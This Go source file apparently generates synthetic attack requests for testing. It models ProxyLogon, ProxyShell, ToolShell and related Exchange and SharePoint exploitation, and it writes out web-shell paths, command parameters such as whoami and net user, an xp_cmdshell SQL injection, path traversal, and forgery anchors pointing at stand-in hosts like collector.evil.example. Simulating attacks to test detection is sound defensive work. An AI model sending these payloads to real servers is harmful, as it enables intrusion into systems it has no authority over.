package outsider

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// request is what somebody sent. Only what a sender can write stands in it,
// and for a server's own pages the answer that they give.
type request struct {
	method, stem, query string
	referer, agent      string
	user                string
	fixedStatus         int    // of a page that is there
	anchor              string // what the front end took for the target, of a bypass
	target              string // the server that it was sent on to
	mayAnswer           []int  // what the other end may have answered instead
}

// word is a random name.
func word(rng *rand.Rand, least, most int) string {
	var b strings.Builder
	for range least + rng.IntN(most-least+1) {
		b.WriteByte("abcdefghijklmnopqrstuvwxyz"[rng.IntN(26)])
	}
	return b.String()
}

func pick[T any](rng *rand.Rand, list ...T) T { return list[rng.IntN(len(list))] }

// attack is one way of knocking: the requests that its public descriptions
// show, all of which anybody can send to any server.
type attack struct {
	name string
	make func(rng *rand.Rand, s *server) []request
}

// reply is what the other end of a bypass may answer without anything having
// happened on the server: the sender's own machine whatever it likes, the
// server itself only refusals and, where it has the weakness, an answer of the
// autodiscover service.
func bypass(rng *rand.Rand, s *server, path string) request {
	r := request{method: "POST", stem: pick(rng, "/ecp/", "/owa/auth/") + word(rng, 1, 6) + pick(rng, ".js", ".css", ".png"), agent: "python-requests/2.25.1"}
	if rng.IntN(3) == 0 {
		r.target = s.name + ".town.example"
		r.mayAnswer = []int{500, 400, 404, 503}
		if !s.fixed && strings.HasPrefix(path, "/autodiscover") {
			r.mayAnswer = append(r.mayAnswer, 200)
		}
	} else {
		r.target = pick(rng, "collector.evil.example", "198.51.100.9", word(rng, 5, 9)+".oast.example")
		r.mayAnswer = []int{200, 241, 302, 500}
	}
	r.anchor = "ServerInfo~" + pick(rng, "a]@"+r.target+":444", r.target, "Administrator@"+r.target+":444") + path
	return r
}

func attacks() []attack {
	email := func(rng *rand.Rand) string {
		return word(rng, 3, 8) + pick(rng, "@", "%40") + word(rng, 3, 8) + ".example"
	}
	command := func(rng *rand.Rand) string {
		return pick(rng, "cmd", "exec_code", "c", "command", "q", "pass", word(rng, 4, 9)) + "=" + pick(rng, "whoami", "ipconfig+/all", "net+user", "dsquery+user", "cmd.exe+/c+dir", word(rng, 5, 30))
	}
	page := func(rng *rand.Rand) string {
		folder := pick(rng, "/owa/auth/", "/owa/auth/Current/", "/owa/auth/Current/themes/resources/", "/ecp/auth/", "/aspnet_client/", "/aspnet_client/system_web/", "/OAB/", "/", "/_layouts/15/", "/_layouts/16/", "/scripts/", "/"+word(rng, 3, 8)+"/")
		name := pick(rng, "shell", "web", "help", "discover", "supp0rt", "error", "spinstall0", "cmd", "RedirSuiteServerProxy", "TimeoutLogout", word(rng, 3, 10))
		return folder + name + pick(rng, ".aspx", ".ashx", ".asmx", ".asp", ".aspx", ".php", ".jsp", ".aspx/"+word(rng, 2, 5)+".aspx", ".aspx;x=1")
	}
	return []attack{
		{"page", func(rng *rand.Rand, s *server) []request {
			p := page(rng)
			var list []request
			for range 1 + rng.IntN(6) {
				r := request{method: pick(rng, "GET", "POST", "HEAD"), stem: p}
				if rng.IntN(2) == 0 {
					r.query = command(rng)
				}
				list = append(list, r)
			}
			return list
		}},
		{"pages", func(rng *rand.Rand, s *server) []request {
			var list []request
			for range 3 + rng.IntN(40) {
				list = append(list, request{method: pick(rng, "GET", "GET", "POST"), stem: page(rng), query: pick(rng, "", command(rng))})
			}
			return list
		}},
		{"known page with path info", func(rng *rand.Rand, s *server) []request {
			return []request{{method: pick(rng, "GET", "POST"), stem: "/owa/auth/logon.aspx/" + word(rng, 1, 6) + pick(rng, ".aspx", ".php", ""), query: pick(rng, "", command(rng)), fixedStatus: pick(rng, 200, 0)}}
		}},
		{"proxylogon", func(rng *rand.Rand, s *server) []request {
			canary := "msExchEcpCanary=" + word(rng, 20, 40) + "."
			all := []request{
				bypass(rng, s, "/autodiscover/autodiscover.xml?#"),
				bypass(rng, s, "/mapi/emsmdb/?#"),
				bypass(rng, s, "/ecp/proxyLogon.ecp?#"),
				bypass(rng, s, "/ecp/DDI/DDIService.svc/GetObject?"+canary+"&schema=OABVirtualDirectory#"),
				bypass(rng, s, "/ecp/DDI/DDIService.svc/GetList?reqId=1615583487987&schema=VirtualDirectory&"+canary+"&a="),
				bypass(rng, s, "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&"+canary+"#"),
				bypass(rng, s, "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&"+canary+"#"),
				bypass(rng, s, "/EWS/Exchange.asmx?#"),
			}
			if rng.IntN(2) == 0 { // one machine for the whole sequence
				for i := range all {
					path := all[i].anchor[strings.Index(all[i].anchor[11:], "/")+11:]
					target := all[0].target
					all[i].target, all[i].mayAnswer = target, all[0].mayAnswer
					if strings.HasPrefix(target, s.name) && !strings.HasPrefix(path, "/autodiscover") {
						all[i].mayAnswer = []int{500, 400, 404}
					}
					all[i].anchor = "ServerInfo~a]@" + target + ":444" + path
				}
			}
			return all[:1+rng.IntN(len(all))]
		}},
		{"proxyshell", func(rng *rand.Rand, s *server) []request {
			e := email(rng)
			var list []request
			for _, path := range []string{"/mapi/nspi/?", "/mapi/emsmdb/?", "/EWS/Exchange.asmx?", "/powershell/?X-Rps-CAT=" + word(rng, 40, 90) + "&"} {
				r := request{method: pick(rng, "POST", "POST", "GET"), stem: "/autodiscover/autodiscover.json", query: pick(rng, "", "a=") + "@" + word(rng, 3, 6) + ".example" + path + "&Email=autodiscover/autodiscover.json%3F@" + e[strings.LastIndexAny(e, "@0")+1:]}
				if s.manner == refuses {
					r.mayAnswer = []int{400, 401, 404, 302}
				}
				list = append(list, r)
			}
			return list[rng.IntN(3):]
		}},
		{"proxynotshell", func(rng *rand.Rand, s *server) []request {
			return []request{{method: pick(rng, "GET", "POST"), stem: "/autodiscover/autodiscover.json", query: "@" + word(rng, 3, 6) + ".example/owa/&Email=autodiscover/autodiscover.json?a@" + word(rng, 3, 6) + ".example&Protocol=PowerShell", mayAnswer: []int{401, 404, 302}}}
		}},
		{"owassrf", func(rng *rand.Rand, s *server) []request {
			return []request{{method: "POST", stem: "/owa/" + email(rng) + "/powershell", agent: pick(rng, "Microsoft WinRM Client", "python-requests/2.28")}}
		}},
		{"proxytoken", func(rng *rand.Rand, s *server) []request {
			e := email(rng)
			list := []request{
				{method: "GET", stem: "/ecp/" + e + "/RulesEditor/InboxRules.svc/NewObject", query: "SecurityToken=" + word(rng, 5, 20), mayAnswer: []int{500, 404}},
				{method: "POST", stem: "/ecp/" + e + "/RulesEditor/InboxRules.svc/NewObject", query: "msExchEcpCanary=" + word(rng, 20, 40)},
			}
			return list[rng.IntN(2):]
		}},
		{"view state", func(rng *rand.Rand, s *server) []request {
			return []request{{method: "GET", stem: pick(rng, "/ecp/default.aspx", "/ecp/auth/TimeoutLogoff.aspx"), query: "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=" + word(rng, 40, 90) + pick(rng, "", "&x=The+serialized+data+is+invalid")}}
		}},
		{"calendar", func(rng *rand.Rand, s *server) []request {
			return []request{{method: "POST", stem: "/owa/calendar/a" + pick(rng, "", "/"+word(rng, 2, 5))}}
		}},
		{"toolshell", func(rng *rand.Rand, s *server) []request {
			layer := pick(rng, "/_layouts/15/", "/_layouts/16/")
			list := []request{
				{method: "POST", stem: layer + "ToolPane.aspx", query: "DisplayMode=Edit&a=/ToolPane.aspx", referer: "/_layouts/SignOut.aspx"},
				{method: "GET", stem: layer + pick(rng, "spinstall0.aspx", "spinstall1.aspx", "ghostfile346.aspx", "debug_dev.js", word(rng, 4, 9)+".aspx")},
				{method: "POST", stem: layer + word(rng, 4, 9) + ".aspx", query: command(rng)},
			}
			return list[:1+rng.IntN(3)]
		}},
		{"injection", func(rng *rand.Rand, s *server) []request {
			return []request{
				{method: "GET", stem: "/" + word(rng, 3, 8) + ".aspx", query: "id=1;EXEC+xp_cmdshell('whoami')--"},
				{method: "POST", stem: "/guestaccess.aspx", query: "arg12=" + word(rng, 3, 8)},
				{method: "GET", stem: "/../../windows/win.ini", fixedStatus: pick(rng, 400, 0)},
				{method: "POST", stem: "/Telerik.Web.UI.WebResource.axd", query: "type=rau"},
			}[rng.IntN(4):]
		}},
		{"error text", func(rng *rand.Rand, s *server) []request {
			return []request{{method: "GET", stem: "/ecp/" + word(rng, 2, 6) + ".aspx", query: "a=" + fmt.Sprintf("~a]@%s:444/ecp/x.js", pick(rng, "evil.example", s.name)) + "&m=" + pick(rng, "System.InvalidCastException+TextFormattingRunProperties", "Set-OabVirtualDirectory+-ExternalUrl+%3Cscript+runat%3Dserver%3E", "New-MailboxExportRequest+-FilePath+%5C%5Clocalhost%5Cc%24%5Cx.aspx")}}
		}},
	}
}
